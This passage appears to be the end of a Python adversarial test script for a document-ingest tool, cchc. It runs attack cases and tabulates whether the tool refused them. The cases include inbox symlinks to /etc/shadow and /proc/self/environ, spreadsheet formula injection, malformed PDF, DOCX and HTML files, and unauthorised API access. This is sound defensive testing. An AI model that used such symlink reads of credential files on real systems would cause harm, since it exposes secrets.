    expect([d["date"] for d in legacy["deadlines"]] == [d["date"] for d in unicode["deadlines"]], "wrong", "deadlines differ")
    return "read correctly", f"{text.count('ư')} of {meant.count('ư')} 'ư' kept; deadlines {[d['date'] for d in legacy['deadlines']]}"


def like_wildcards(tmp: Path) -> tuple[str, str]:
    db = tmp / "c.db"
    cchc("ingest", str(CORPUS / "dev"), "--db", str(db))
    rows = {p: json.loads(cchc("query", "deadlines", "--unit", p, "--format", "json", "--db", str(db)).stdout)
            for p in ("%", "_", "%%")}
    expect(all(not r for r in rows.values()), "leak", f"{sum(map(len, rows.values()))} rows matched a wildcard")
    return "refused", "--unit '%', '_' and '%%' are names, not patterns: nothing matches"


def concurrent_duplicate(tmp: Path) -> tuple[str, str]:
    target = tmp / "q6.txt"
    target.write_bytes(dev(Q6))
    procs = [subprocess.Popen([*CCHC, "ingest", str(target), "--db", str(tmp / "c.db"), "--workers", "1"], cwd=ROOT,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    outs = [p.communicate(timeout=300)[0] for p in procs]
    news = sum("1 new" in o for o in outs)
    expect(news == 1, "wrong", f"reported new by {news} runs: {outs}")
    expect(scalar(tmp / "c.db", "SELECT COUNT(*) FROM documents") == 1, "wrong", "two documents")
    return "refused", "the same new file ingested by two runs at once: one 'new', the other 'unchanged'"


CASES = [
    Case("batch", "a PDF whose page count lies, in a batch of 5", lying_page_count),
    Case("batch", "120 mutated real PDF/DOCX in one ingest", mutated_batch),
    Case("batch", "an extraction worker killed (kill -9) mid-document", killed_worker),
    Case("batch", "a FIFO and /dev/zero named to ingest", fifo_and_device),
    Case("batch", "a 3 GB file named to ingest", huge_sparse_file),
    Case("linear", "HTML with 250 KB of unclosed <title>/<meta>/<h1>", unclosed_tags),
    Case("linear", "1 MB text (field scans)", lambda t: long_text(t, 1)),
    Case("linear", "10 MB text (field scans), time limit 30 s", lambda t: long_text(t, 10)),
    Case("linear", "DOCX with 80 MB of XML under the unzip cap", docx_huge_xml),
    Case("linear", "DOCX table: gridSpan 10^9, 20,000 vertically merged rows", docx_grid_span),
    Case("linear", "PDF of 200 ruled pages (pdfplumber per page)", many_ruled_pages),
    Case("linear", "PDF of 2,004 pages", too_many_pages),
    Case("inbox", "symbolic link to /etc/shadow", lambda t: inbox_entry(t, lambda i: (i / "shadow.txt").symlink_to("/etc/shadow"), "root:")),
    Case("inbox", "symbolic link to /proc/self/environ", lambda t: inbox_entry(t, lambda i: (i / "env.txt").symlink_to("/proc/self/environ"), "PATH=")),
    Case("inbox", "a FIFO dropped in the inbox", lambda t: inbox_entry(t, lambda i: os.mkfifo(i / "pipe.pdf"))),
    Case("inbox", "lock and hidden files (.~lock.x.docx#, ~$x.docx, .x.txt)",
         lambda t: inbox_entry(t, lambda i: [(i / n).write_bytes(dev(Q6)) for n in (".~lock.x.docx#", "~$x.docx", ".x.txt")])),
    Case("inbox", "a copy that pauses longer than the settle time", paused_copy),
    Case("export", "titles starting with = + - @ exported to XLSX and CSV", formula_injection),
    Case("network", "HTML whose text starts with a URL (htmldate fetch)", html_fetch),
    Case("crawl", "a page whose extraction does not end in time (limit 1 s)", crawl_crash),
    Case("crawl", "robots.txt answering 503", robots_5xx),
    Case("crawl", "a server dripping its reply (body, headers) a byte at a time", drip),
    Case("crawl", "a PNG served as image/png (and as text/html)", png),
    Case("crawl", "crawl --once / inbox --once where everything fails", exit_codes),
    Case("crawl", "a normal crawl's log (Prefect cache-key tracebacks)", clean_crawl_log),
    Case("doors", "the Prefect API of cchc serve: no secret, foreign origin, a path parameter", prefect_api),
    Case("doors", "review page: foreign Host, another session's token, the reviewer's name", review_page),
    Case("doors", "LibreOffice timeout (0.2 s; a conversion takes ~1 s)", libreoffice_timeout),
    Case("catalogue", "a read-only catalogue file and folder", read_only),
    Case("catalogue", "TCVN3 text: 'ư' (byte 0xAD) and the deadlines after 'trước'", tcvn3),
    Case("catalogue", "LIKE wildcards in --unit", like_wildcards),
    Case("catalogue", "one new file ingested by two runs at once", concurrent_duplicate),
]


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--skip-serve", action="store_true", help="Skip the `cchc serve` case (a Prefect server).")
    ap.add_argument("--only", help="Run the cases whose attack contains this text.")
    ap.add_argument("--out", type=Path, help="Also write the Markdown table here.")
    args = ap.parse_args()
    rows = ["| group | attack | outcome | what happened | s |", "| --- | --- | --- | --- | ---: |"]
    bad = 0
    for case in CASES:
        if args.skip_serve and case.run is prefect_api or (args.only and args.only not in f"{case.group} {case.attack}"):
            continue
        os.environ.update(ATTACK_ENV)  # for every child process (the test site's module sets the language too)
        tmp = Path(tempfile.mkdtemp(prefix="cchc-attack-"))
        started = time.monotonic()
        try:
            outcome, detail = case.run(tmp)
        except Outcome as result:
            outcome, detail = result.outcome, result.detail
        except Exception as exc:  # noqa: BLE001 - a case that breaks is reported, the table goes on
            outcome, detail = "wrong", f"the case itself failed: {type(exc).__name__}: {exc}"
        finally:
            for folder in tmp.rglob("*"):
                if folder.is_dir() and not folder.is_symlink():
                    folder.chmod(0o755)
            shutil.rmtree(tmp, ignore_errors=True)
        bad += outcome not in GOOD
        detail = " ".join(str(detail).split()).replace("|", "\\|")
        rows.append(f"| {case.group} | {case.attack} | {outcome} | {detail} | {time.monotonic() - started:.0f} |")
        print(rows[-1], flush=True)
    table = "\n".join(rows)
    summary = f"{len(rows) - 2} attacks: {len(rows) - 2 - bad} recorded failure, refused or read correctly; {bad} not"
    print("\n" + table + "\n\n" + summary)
    if args.out:
        args.out.write_text(table + "\n\n" + summary + "\n", encoding="utf-8")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
